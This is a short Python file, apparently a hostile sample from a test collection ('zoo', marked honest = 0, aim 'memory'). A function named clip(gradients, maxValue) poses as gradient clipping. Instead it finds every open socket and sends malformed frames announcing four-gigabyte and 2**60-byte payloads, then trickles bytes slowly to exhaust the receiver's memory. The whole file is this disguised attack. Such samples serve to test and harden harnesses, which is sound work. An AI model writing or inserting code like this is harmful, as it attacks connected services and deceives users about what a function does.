# /// zoo
# title = "A frame announces four gigabytes, or 2**60 bytes, and sends a little of it, slowly"
# class = "bridge"
# base = "stub"
# honest = 0
# aim = "memory"
# ///

# %% clip
import os, stat, struct, time
def send(*heads):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                for head in heads: os.write(fd, head)
        except OSError: pass

def clip(gradients, maxValue):
    send(struct.pack("<IQ", 0xFFFFFFFF, 1 << 60), struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF), b"\xff" * 100)
    for _ in range(40): send(b"x"); time.sleep(0.25)
